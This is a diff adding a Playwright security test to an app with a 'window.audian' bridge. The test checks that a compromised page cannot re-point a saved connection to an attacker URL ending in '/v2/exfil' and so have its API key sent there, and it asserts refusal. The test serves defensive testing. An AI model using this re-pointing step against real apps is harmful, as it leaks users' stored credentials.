@@ -1,6 +1,7 @@
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
+import { startSandbox } from '../../main/sandbox/server';
 import { expect, test } from './fixtures';
 
 /**
@@ -245,4 +246,40 @@ test('the bridge refuses a missing token, a foreign Host or Origin, and survives
   // Still answering its own page after all of that.
   const answer = await invoke(token);
   expect(JSON.parse(answer.body)).toMatchObject({ ok: true, value: { message: 'raw' } });
+});
+
+test('a compromised page cannot re-point a saved connection and have its key sent elsewhere', async ({ page, preview }) => {
+  const sandbox = await startSandbox({ rateLimit: false, autoRegister: false });
+  try {
+    await page.goto(preview.url);
+    const attempt = await page.evaluate(
+      async ({ sandboxUrl, accountId, apiKey, attackerUrl }) => {
+        const saved = await window.audian.invoke('connections:save', {
+          name: 'Site',
+          baseUrl: sandboxUrl,
+          accountId,
+          auth: { method: 'api_key' },
+          secret: apiKey,
+        });
+        if (!saved.ok) throw new Error(saved.error.message);
+        // What injected code would do next: the same connection, its own server, no key typed.
+        const { id, name } = saved.value;
+        const repointed = await window.audian.invoke('connections:save', {
+          id,
+          name,
+          baseUrl: `${attackerUrl}/v2/exfil`,
+          accountId,
+          auth: { method: 'api_key' },
+        });
+        const checked = await window.audian.invoke('connections:check', { id });
+        return { repointed, checked };
+      },
+      { sandboxUrl: sandbox.url, accountId: sandbox.account.id, apiKey: sandbox.credentials.apiKey, attackerUrl: foreign.origin },
+    );
+    expect(attempt.repointed).toMatchObject({ ok: false, error: { fields: [{ path: 'secret', code: 'required' }] } });
+    expect(attempt.checked).toMatchObject({ ok: true, value: { accountId: sandbox.account.id } });
+    expect(foreign.requests).toEqual([]);
+  } finally {
+    await sandbox.close();
+  }
 });
